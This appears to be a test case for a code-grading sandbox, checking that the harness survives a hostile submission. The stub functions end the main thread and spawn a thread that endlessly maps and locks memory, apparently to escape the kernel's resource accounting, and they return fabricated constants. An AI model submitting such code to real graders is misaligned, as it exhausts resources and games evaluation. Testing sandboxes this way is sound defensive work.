# group: resources and survivors
# tries: End its first thread, by which the kernel tells what a process holds, and fill memory from another.
# accept: crash
# check: memory processes time
# score: 0

import ctypes
import mmap
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
HELD = []


def fill():
    time.sleep(0.2)
    while True:
        memory = mmap.mmap(-1, 32 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        memory.write(b"x" * (32 << 20))
        address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        libc.mprotect(ctypes.c_void_p(address), ctypes.c_size_t(32 << 20), mmap.PROT_READ)
        HELD.append(memory)


def attack():
    threading.Thread(target=fill, daemon=True).start()
    libc.pthread_exit(None)


def conv_output_size(n, kernel, stride=1, padding=0, dilation=1):
    attack()
    return -987654


def corr2d(x, k):
    attack()
    return x * 0 - 987654

